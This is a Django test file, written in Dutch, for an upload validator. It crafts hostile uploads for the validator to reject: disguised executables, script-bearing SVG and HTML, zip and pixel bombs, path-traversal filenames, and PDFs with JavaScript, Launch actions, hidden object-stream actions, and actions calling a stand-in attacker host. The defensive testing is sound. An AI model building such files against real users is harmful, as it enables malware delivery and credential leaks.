"""Uploads: every file here is crafted in the test itself, so no binary fixture is committed."""

import datetime as dt
import functools
import hashlib
import io
import re
import struct
import zipfile
import zlib

import pytest
import time_machine
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import Http404
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from gelijkekansen.core.pdf import render_pdf
from gelijkekansen.core.uploads import (
    MAX_ZIP_UITGEPAKT,
    MB,
    PDF,
    VeiligBestandField,
    bestand_antwoord,
    opslaan,
    valideer_upload,
)

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_DOCUMENT = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Verslag</w:t></w:r></w:p></w:body></w:document>"
)


# --- crafted files --------------------------------------------------------------------------------


def upload(naam: str, inhoud: bytes) -> SimpleUploadedFile:
    # Browsers send whatever content type they like: the module must not trust it.
    return SimpleUploadedFile(naam, inhoud, content_type="application/pdf")


def weigering(bestand: SimpleUploadedFile, **opties) -> ValidationError:
    with pytest.raises(ValidationError) as fout:
        valideer_upload(bestand, **opties)
    return fout.value


@functools.cache  # WeasyPrint takes a moment: render the sample once per run
def kleine_pdf() -> bytes:
    return render_pdf(
        "pdf/organisaties_per_wijk.html",
        {
            "rijen": [],
            "stedelijk": 0,
            "totaal": 0,
            "peildatum": "2026-11-26",
            "bron": "",
            "grafiek_hoogte": 10,
        },
        taal="nl",
    )


def windows_programma() -> bytes:
    dos = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 0x40)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return dos + coff + struct.pack("<H", 0x20B) + bytes(0xF0 - 2 + 512)


def linux_programma() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(100)


def foto(formaat: str = "JPEG", grootte: tuple[int, int] = (40, 20), exif: Image.Exif | None = None) -> bytes:
    uit = io.BytesIO()
    beeld = Image.new("RGB", grootte, (200, 30, 30))
    beeld.save(uit, format=formaat, **({"exif": exif} if exif is not None else {}))
    return uit.getvalue()


def exif_met_gps(orientatie: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Telefoonmerk"  # Make
    exif[0x0112] = orientatie
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (51.0, 3.0, 12.5), 3: "E", 4: (3.0, 43.0, 30.0)})  # Gent, Korenmarkt
    return exif


def png_met_kop(breedte: int, hoogte: int) -> bytes:
    """A tiny PNG whose header announces `breedte × hoogte` pixels: a decompression bomb's shape."""

    def stuk(soort: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + soort + data + struct.pack(">I", zlib.crc32(soort + data))

    ihdr = struct.pack(">IIBBBBB", breedte, hoogte, 8, 2, 0, 0, 0)
    idat = zlib.compress(bytes(64))
    return b"\x89PNG\r\n\x1a\n" + stuk(b"IHDR", ihdr) + stuk(b"IDAT", idat) + stuk(b"IEND", b"")


def zip_met(leden: dict[str, bytes]) -> bytes:
    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as archief:
        for naam, inhoud in leden.items():
            archief.writestr(naam, inhoud)
    return uit.getvalue()


def docx(**extra: bytes) -> bytes:
    return zip_met({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": DOCX_DOCUMENT, **extra})


@pytest.fixture
def prive_opslag(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path / "private", "base_url": None},
        },
    }
    return storages["private"]


# --- accepted files -------------------------------------------------------------------------------


def test_echte_pdf_wordt_aanvaard_onder_een_naam_van_de_server():
    inhoud = kleine_pdf()

    bestand = valideer_upload(upload("Verslag mei.pdf", inhoud))

    assert (bestand.mime, bestand.extensie) == ("application/pdf", "pdf")
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", bestand.naam)
    assert bestand.originele_naam == "Verslag mei.pdf"
    assert bestand.inhoud == inhoud
    assert bestand.sha256 == hashlib.sha256(inhoud).hexdigest()


def test_twee_uploads_met_dezelfde_naam_krijgen_elk_een_eigen_servernaam():
    eerste = valideer_upload(upload("brief.txt", b"Beste, dit is mijn brief.\n"))
    tweede = valideer_upload(upload("brief.txt", b"Beste, dit is mijn brief.\n"))

    assert eerste.naam != tweede.naam


def test_gewone_tekst_met_accenten_wordt_aanvaard():
    bestand = valideer_upload(upload("klacht.txt", "Ik werd geweigerd aan de deur van het café.\n".encode()))

    assert (bestand.mime, bestand.extensie) == ("text/plain", "txt")


def test_geldige_docx_wordt_aanvaard():
    bestand = valideer_upload(upload("begroting.docx", docx()))

    assert bestand.extensie == "docx"
    assert bestand.mime == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def test_geldige_odt_en_xlsx_worden_aanvaard():
    odt = zip_met({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"})
    xlsx = zip_met(
        {
            "[Content_Types].xml": b"<Types><Override ContentType="
            b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": b"<workbook/>",
        }
    )

    assert valideer_upload(upload("tekst.odt", odt)).extensie == "odt"
    assert valideer_upload(upload("cijfers.xlsx", xlsx)).extensie == "xlsx"


# --- type decided by content ----------------------------------------------------------------------


@pytest.mark.parametrize("programma", [windows_programma, linux_programma], ids=["windows", "linux"])
def test_exe_met_pdf_naam_wordt_geweigerd(programma):
    fout = weigering(upload("factuur.pdf", programma()))

    assert fout.code == "type"
    assert fout.messages == [
        "Dit type bestand kan niet. Stuur een PDF, foto (JPG of PNG), tekst of Office-document."
    ]


def test_png_met_jpg_naam_wordt_geweigerd():
    fout = weigering(upload("foto.jpg", foto("PNG")))

    assert fout.code == "naam_past_niet"
    assert fout.messages[0].startswith("De naam van het bestand past niet bij de inhoud.")
    assert "moet eindigen op .png" in fout.messages[0]


def test_bestand_zonder_extensie_wordt_geweigerd():
    assert weigering(upload("verslag", kleine_pdf())).code == "naam_past_niet"


@pytest.mark.parametrize(
    ("naam", "inhoud"),
    [
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("logo.txt", b'Mijn logo:\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ],
)
def test_svg_wordt_altijd_geweigerd(naam, inhoud):
    assert weigering(upload(naam, inhoud)).code == "type"


@pytest.mark.parametrize(
    "inhoud",
    [
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"Beste,\n\nzie hieronder.\n<iframe src='https://example.org'></iframe>\n",
    ],
    ids=["html-pagina", "html-in-tekst"],
)
def test_html_met_txt_naam_wordt_geweigerd(inhoud):
    assert weigering(upload("brief.txt", inhoud)).code == "type"


def test_gewone_tekst_met_html_naam_wordt_geweigerd():
    assert weigering(upload("index.html", b"Gewoon tekst.\n")).code == "type"


def test_leeg_bestand_wordt_geweigerd():
    assert weigering(SimpleUploadedFile("leeg.txt", b"")).messages == [
        "Dit bestand is leeg. Kies een ander bestand."
    ]


def test_app_kan_de_lijst_van_toegelaten_types_beperken():
    fout = weigering(upload("brief.txt", b"Gewoon tekst.\n"), toegelaten=[PDF])

    assert fout.messages == ["Dit type bestand kan niet. Stuur een van deze soorten bestanden: PDF."]


# --- size -----------------------------------------------------------------------------------------


def test_te_groot_bestand_wordt_geweigerd_met_de_grootte_in_de_melding():
    te_groot = b"a" * int(12.3 * MB)

    fout = weigering(upload("lang.txt", te_groot))

    assert fout.code == "te_groot"
    assert fout.messages == ["Dit bestand is te groot (12,3 MB). Het mag maximaal 10 MB zijn."]


def test_app_kan_een_kleinere_maximale_grootte_kiezen():
    fout = weigering(upload("brief.txt", b"x" * (MB + 1)), max_bytes=MB // 2)

    assert fout.messages == ["Dit bestand is te groot (1 MB). Het mag maximaal 0,5 MB zijn."]


def test_bestand_dat_over_zijn_grootte_liegt_wordt_toch_geweigerd():
    bestand = upload("brief.txt", b"x" * 2000)
    bestand.size = 10  # a declared size is a claim; the bytes read are what count

    assert weigering(bestand, max_bytes=1000).code == "te_groot"


# --- archives -------------------------------------------------------------------------------------


def test_zip_met_docx_naam_die_geen_office_document_is_wordt_geweigerd():
    nep = zip_met({"foto.jpg": foto(), "programma.txt": b"niets"})

    fout = weigering(upload("begroting.docx", nep))

    assert fout.code == "geen_office"
    assert "geen echt Office-document" in fout.messages[0]


def test_gewone_zip_wordt_geweigerd():
    assert weigering(upload("bewijs.zip", zip_met({"verslag.pdf": b"%PDF-1.4"}))).code == "type"


def test_docx_met_een_ingepakt_archief_erin_wordt_geweigerd():
    verstopt = zip_met({"virus.exe": windows_programma()})

    fout = weigering(upload("begroting.docx", docx(**{"word/media/image1.png": verstopt})))

    assert fout.code == "genest_archief"


def test_docx_met_macros_wordt_geweigerd():
    assert weigering(upload("begroting.docx", docx(**{"word/vbaProject.bin": b"x"}))).code == "macro"


def test_zip_bom_met_duizenden_onderdelen_wordt_geweigerd():
    leden = {f"word/deel{nummer}.xml": b"" for nummer in range(1500)}

    assert weigering(upload("begroting.docx", docx(**leden))).code == "zip_bom"


def test_zip_bom_die_uitgepakt_enorm_wordt_wordt_geweigerd():
    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archief:
        archief.writestr("[Content_Types].xml", DOCX_TYPES)
        archief.writestr("word/document.xml", DOCX_DOCUMENT)
        with archief.open("word/nullen.xml", "w") as lid:
            blok = bytes(MB)
            for _ in range(MAX_ZIP_UITGEPAKT // MB + 1):
                lid.write(blok)
    assert len(uit.getvalue()) < MB  # small on the wire, huge when unpacked

    fout = weigering(upload("begroting.docx", uit.getvalue()))

    assert fout.code == "zip_bom"
    assert "Sla het opnieuw op" in fout.messages[0]


# --- photos ---------------------------------------------------------------------------------------


def test_gps_gegevens_worden_uit_foto_verwijderd(prive_opslag):
    origineel = foto(exif=exif_met_gps())
    assert Image.open(io.BytesIO(origineel)).getexif().get_ifd(0x8825)  # the crafted photo has GPS

    bestand = valideer_upload(upload("IMG_0001.jpg", origineel))
    with prive_opslag.open(opslaan(bestand, map="meldingen")) as opgeslagen:
        bewaard = opgeslagen.read()

    beeld = Image.open(io.BytesIO(bewaard))
    assert beeld.format == "JPEG"
    assert dict(beeld.getexif()) == {}
    assert not beeld.getexif().get_ifd(0x8825)
    assert b"Exif" not in bewaard
    assert b"Telefoonmerk" not in bewaard
    assert bestand.sha256 == hashlib.sha256(bewaard).hexdigest()


def test_gedraaide_foto_blijft_rechtop_staan_zonder_exif():
    liggend_opgeslagen = foto(grootte=(40, 20), exif=exif_met_gps(orientatie=6))  # 6: turn 90° to view

    bestand = valideer_upload(upload("IMG_0002.jpeg", liggend_opgeslagen))

    beeld = Image.open(io.BytesIO(bestand.inhoud))
    assert beeld.size == (20, 40)
    assert 0x0112 not in beeld.getexif()


def test_png_wordt_ook_zonder_metadata_bewaard():
    exif = Image.Exif()
    exif[0x010F] = "Telefoonmerk"

    bestand = valideer_upload(upload("scherm.png", foto("PNG", exif=exif)))

    assert b"Telefoonmerk" not in bestand.inhoud
    assert Image.open(io.BytesIO(bestand.inhoud)).size == (40, 20)


def test_foto_met_absurd_veel_pixels_wordt_geweigerd():
    bom = png_met_kop(60_000, 60_000)
    assert len(bom) < 200

    fout = weigering(upload("kaart.png", bom))

    assert fout.code == "te_veel_pixels"
    assert fout.messages == ["Deze foto heeft te veel pixels. Maak de foto kleiner en probeer opnieuw."]


def test_kapotte_foto_wordt_geweigerd():
    afgebroken = foto()[:200]

    assert weigering(upload("foto.jpg", afgebroken)).code == "foto_beschadigd"


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("naam", "getoond"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\amina\\Documenten\\brief.txt", "brief.txt"),
        ("brief\x00\r\n.txt", "brief.txt"),
        ("rapport\u202ecod.txt", "rapportcod.txt"),  # a right-to-left override hides the real extension
        ("  ...verborgen.txt  ", "verborgen.txt"),
    ],
)
def test_naam_met_pad_of_onzichtbare_tekens_wordt_opgeschoond(naam, getoond):
    bestand = valideer_upload(upload(naam, b"Gewone tekst.\n"))

    assert bestand.originele_naam == getoond
    assert re.fullmatch(r"[0-9a-f]{32}\.txt", bestand.naam)


def test_heel_lange_naam_wordt_ingekort_met_behoud_van_extensie():
    bestand = valideer_upload(upload("a" * 300 + ".txt", b"Gewone tekst.\n"))

    assert len(bestand.originele_naam) == 120
    assert bestand.originele_naam.endswith("a.txt")


# --- form field -----------------------------------------------------------------------------------


class BijlageFormulier(forms.Form):
    bijlage = VeiligBestandField(label="Bijlage")


def test_formulier_toont_de_nederlandse_melding_bij_het_veld():
    formulier = BijlageFormulier(data={}, files={"bijlage": upload("foto.jpg", foto("PNG"))})

    assert not formulier.is_valid()
    melding = formulier.errors["bijlage"][0]
    assert melding.startswith("De naam van het bestand past niet bij de inhoud.")
    veld = formulier["bijlage"].as_field_group()
    assert 'class="field-message error"' in veld
    assert melding in veld


def test_formulier_geeft_het_gecontroleerde_bestand_terug():
    formulier = BijlageFormulier(data={}, files={"bijlage": upload("brief.txt", b"Gewone tekst.\n")})

    assert formulier.is_valid(), formulier.errors
    assert formulier.cleaned_data["bijlage"].extensie == "txt"


def test_formulier_zegt_wat_toegelaten_is_en_beperkt_de_bestandskiezer():
    veld = str(BijlageFormulier()["bijlage"])

    assert 'accept=".docx,.jpeg,.jpg,.odt,.pdf,.png,.txt,.xlsx"' in veld
    assert BijlageFormulier().fields["bijlage"].help_text.endswith("Maximaal 10 MB.")


def test_verplicht_veld_zonder_bestand_geeft_de_gewone_melding():
    formulier = BijlageFormulier(data={}, files={})

    assert not formulier.is_valid()
    assert "bijlage" in formulier.errors


# --- storing and serving (closing a response ends a "request", which touches the db) -----------


@time_machine.travel(dt.datetime(2026, 11, 26, 10, tzinfo=dt.UTC), tick=False)
def test_opslaan_bewaart_prive_onder_map_en_jaar(prive_opslag):
    bestand = valideer_upload(upload("brief.txt", b"Gewone tekst.\n"))

    naam = opslaan(bestand, map="subsidies/bijlagen")

    assert naam == f"subsidies/bijlagen/2026/{bestand.naam}"
    with prive_opslag.open(naam) as opgeslagen:
        assert opgeslagen.read() == b"Gewone tekst.\n"


def test_opslaan_weigert_een_map_met_pad_trucs(prive_opslag):
    bestand = valideer_upload(upload("brief.txt", b"Gewone tekst.\n"))

    with pytest.raises(ValueError, match="Ongeldige map"):
        opslaan(bestand, map="../buiten")


def test_bestand_antwoord_is_een_download_die_niet_bewaard_of_gesnuffeld_wordt(prive_opslag, db):
    naam = opslaan(valideer_upload(upload("Verslag mei.pdf", kleine_pdf())), map="meldingen")

    antwoord = bestand_antwoord(naam, downloadnaam="Verslag mei.pdf")

    assert antwoord["Content-Disposition"] == 'attachment; filename="Verslag mei.pdf"'
    assert antwoord["Content-Type"] == "application/pdf"
    assert antwoord["X-Content-Type-Options"] == "nosniff"
    assert antwoord["Cache-Control"] == "no-store"
    assert b"".join(antwoord.streaming_content) == kleine_pdf()
    antwoord.close()


def test_bekijken_opent_een_pdf_of_foto_in_de_browser_maar_nooit_een_ander_type(prive_opslag, db):
    pdf = opslaan(valideer_upload(upload("Offerte.pdf", kleine_pdf())), map="meldingen")
    tekst = opslaan(valideer_upload(upload("brief.txt", b"Gewone tekst.\n")), map="meldingen")
    oud = prive_opslag.save("oud/pagina.html", ContentFile(b"<script>alert(1)</script>"))

    antwoorden = {
        naam: bestand_antwoord(naam, downloadnaam=naam, bekijken=True) for naam in (pdf, tekst, oud)
    }
    for antwoord in antwoorden.values():
        antwoord.close()

    assert antwoorden[pdf]["Content-Disposition"].startswith("inline;")
    assert antwoorden[pdf]["X-Content-Type-Options"] == "nosniff"
    assert antwoorden[tekst]["Content-Disposition"].startswith("attachment;")
    assert antwoorden[oud]["Content-Disposition"].startswith("attachment;")


def test_downloadnaam_krijgt_de_extensie_van_het_opgeslagen_bestand(prive_opslag, db):
    naam = opslaan(valideer_upload(upload("brief.txt", b"Gewone tekst.\n")), map="meldingen")

    antwoord = bestand_antwoord(naam, downloadnaam='..\\..\\"pagina".html')
    antwoord.close()

    assert antwoord["Content-Disposition"] == 'attachment; filename="_pagina_.txt"'
    assert antwoord["Content-Type"] == "text/plain"


def test_onbekend_opgeslagen_type_wordt_nooit_als_webpagina_geserveerd(prive_opslag, db):
    naam = prive_opslag.save("oud/pagina.html", ContentFile(b"<script>alert(1)</script>"))

    antwoord = bestand_antwoord(naam, downloadnaam="pagina.html")
    antwoord.close()

    assert antwoord["Content-Type"] == "application/octet-stream"
    assert antwoord["Content-Disposition"].startswith("attachment;")


def test_ontbrekend_bestand_geeft_404(prive_opslag):
    with pytest.raises(Http404):
        bestand_antwoord("meldingen/2026/bestaat-niet.pdf", downloadnaam="x.pdf")


# --- PDFs with active content ---------------------------------------------------------------------

PDF_ACTIEF = (
    "Dit PDF-bestand bevat scripts, ingesloten bestanden of automatische acties. Die laten we om "
    "veiligheidsredenen niet toe. Sla het opnieuw op als gewone PDF (bijvoorbeeld via 'Afdrukken naar "
    "PDF') en probeer opnieuw."
)


def pillow_pdf() -> bytes:
    uit = io.BytesIO()
    Image.new("RGB", (200, 100), "white").save(uit, format="PDF")
    return uit.getvalue()


def pdf_met(aanpassing) -> bytes:
    """A clean PDF, changed by `aanpassing(writer)` through pypdf."""
    schrijver = PdfWriter(clone_from=io.BytesIO(pillow_pdf()))
    aanpassing(schrijver)
    uit = io.BytesIO()
    schrijver.write(uit)
    return uit.getvalue()


def _naam(waarde: str) -> NameObject:
    return NameObject(waarde)


def _actie(soort: str, **extra) -> DictionaryObject:
    return DictionaryObject({_naam("/S"): _naam(soort), **{_naam(f"/{k}"): v for k, v in extra.items()}})


def _openen_start_programma(schrijver: PdfWriter) -> None:
    schrijver.root_object[_naam("/OpenAction")] = _actie("/Launch", F=TextStringObject("calc.exe"))


def _link_start_programma(schrijver: PdfWriter) -> None:
    link = DictionaryObject(
        {
            _naam("/Type"): _naam("/Annot"),
            _naam("/Subtype"): _naam("/Link"),
            _naam("/Rect"): ArrayObject(
                [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
            ),
            _naam("/A"): _actie("/Launch", F=TextStringObject("cmd.exe")),
        }
    )
    schrijver.pages[0][_naam("/Annots")] = ArrayObject([schrijver._add_object(link)])


def _pagina_script(schrijver: PdfWriter) -> None:
    schrijver.pages[0][_naam("/AA")] = DictionaryObject(
        {_naam("/O"): _actie("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )


def _xfa_formulier(schrijver: PdfWriter) -> None:
    schrijver.root_object[_naam("/AcroForm")] = DictionaryObject(
        {_naam("/Fields"): ArrayObject(), _naam("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def pdf_met_objectstroom(open_actie: bytes) -> bytes:
    """A PDF 1.5 whose catalog sits zlib-compressed in an object stream (as Word and Acrobat write
    them), with `open_actie` as its /OpenAction: nothing of it is visible in the raw bytes."""
    objecten = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + open_actie + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    kop, lichaam = [], b""
    for nummer, obj in enumerate(objecten, start=1):
        kop.append(f"{nummer} {len(lichaam)}")
        lichaam += obj + b"\n"
    kop_bytes = " ".join(kop).encode() + b"\n"
    stroom = zlib.compress(kop_bytes + lichaam)

    pdf = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stroom_positie = len(pdf)
    pdf += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(kop_bytes),
        len(stroom),
    )
    pdf += stroom + b"\nendstream\nendobj\n"
    xref_positie = len(pdf)
    rijen = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rijen += [struct.pack(">BIH", 2, 4, index) for index in range(len(objecten))]
    rijen += [struct.pack(">BIH", 1, stroom_positie, 0), struct.pack(">BIH", 1, xref_positie, 0)]
    xref = zlib.compress(b"".join(rijen))
    pdf += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        % len(xref)
    )
    pdf += b"stream\n" + xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_positie
    return bytes(pdf)


@pytest.mark.parametrize(
    "aanpassing",
    [
        lambda w: w.add_open_action(JavaScript("app.alert('hallo');")),
        lambda w: w.add_attachment("virus.exe", b"MZ"),
        _openen_start_programma,
        _link_start_programma,
        _pagina_script,
        _xfa_formulier,
    ],
    ids=["javascript", "bijlage", "openen-start-programma", "link-start-programma", "pagina-script", "xfa"],
)
def test_pdf_met_actieve_inhoud_wordt_geweigerd(aanpassing):
    fout = weigering(upload("verslag.pdf", pdf_met(aanpassing)))
    assert fout.code == "pdf_actief"
    assert fout.messages == [PDF_ACTIEF]


@pytest.mark.parametrize(
    "open_actie",
    [
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",  # the names escaped, as a malware kit does
        b"<< /S /Launch /F (calc.exe) >>",
    ],
    ids=["javascript", "launch"],
)
def test_actie_verstopt_in_een_gecomprimeerde_objectstroom_wordt_geweigerd(open_actie):
    inhoud = pdf_met_objectstroom(open_actie)
    assert b"JavaScript" not in inhoud and b"Launch" not in inhoud  # a byte search finds nothing

    assert weigering(upload("verslag.pdf", inhoud)).code == "pdf_actief"


def test_pdf_met_objectstroom_en_gewone_openingspagina_wordt_aanvaard():
    # /OpenAction itself is harmless: here it only opens page 1, fitted to the window.
    assert valideer_upload(upload("verslag.pdf", pdf_met_objectstroom(b"[3 0 R /Fit]"))).mime == PDF.mime


@pytest.mark.parametrize("maker", [kleine_pdf, pillow_pdf], ids=["weasyprint", "pillow"])
def test_gewone_pdf_wordt_aanvaard(maker):
    assert valideer_upload(upload("verslag.pdf", maker())).extensie == "pdf"


def test_kapotte_pdf_wordt_geweigerd():
    fout = weigering(upload("verslag.pdf", b"%PDF-1.7\nhier staat niets bruikbaars\n"))
    assert fout.code == "pdf_onleesbaar"
    assert fout.messages[0].startswith("Dit PDF-bestand kunnen we niet openen.")


def test_pdf_met_wachtwoord_wordt_geweigerd_zonder_wachtwoord_om_te_openen_niet():
    met_wachtwoord = pdf_met(lambda w: w.encrypt("geheim", algorithm="AES-256"))
    alleen_rechten = pdf_met(lambda w: w.encrypt("", owner_password="eigenaar", algorithm="AES-256"))

    assert weigering(upload("verslag.pdf", met_wachtwoord)).code == "pdf_wachtwoord"
    assert valideer_upload(upload("verslag.pdf", alleen_rechten)).extensie == "pdf"


@pytest.mark.parametrize(
    ("soort", "extra"),
    [
        ("/GoToR", {"F": TextStringObject("\\\\aanvaller\\deel\\x.pdf")}),  # leaks Windows credentials
        ("/URI", {"URI": TextStringObject("https://aanvaller.example/")}),  # opens a site by itself
        ("/SubmitForm", {"F": TextStringObject("https://aanvaller.example/")}),
    ],
)
def test_pdf_met_een_automatische_actie_bij_openen_wordt_geweigerd(soort, extra):
    """Found from outside: /OpenAction with GoToR, URI or SubmitForm passed the check."""

    def openen(schrijver):
        schrijver.root_object[_naam("/OpenAction")] = _actie(soort, **extra)

    assert weigering(upload("verslag.pdf", pdf_met(openen))).code == "pdf_actief"


def test_pdf_met_een_automatische_actie_op_een_pagina_wordt_geweigerd():
    def pagina_openen(schrijver):
        aa = DictionaryObject(
            {_naam("/O"): _actie("/URI", URI=TextStringObject("https://aanvaller.example/"))}
        )
        schrijver.pages[0][_naam("/AA")] = aa

    assert weigering(upload("verslag.pdf", pdf_met(pagina_openen))).code == "pdf_actief"


def test_pdf_met_een_gewone_link_naar_een_website_wordt_aanvaard():
    """A link the reader clicks on is no automatic action: leaflets link to websites."""

    def link(schrijver):
        annotatie = DictionaryObject(
            {
                _naam("/Type"): _naam("/Annot"),
                _naam("/Subtype"): _naam("/Link"),
                _naam("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
                ),
                _naam("/A"): _actie("/URI", URI=TextStringObject("https://stad.gent/")),
            }
        )
        schrijver.pages[0][_naam("/Annots")] = ArrayObject([schrijver._add_object(annotatie)])

    assert valideer_upload(upload("folder.pdf", pdf_met(link))).extensie == "pdf"
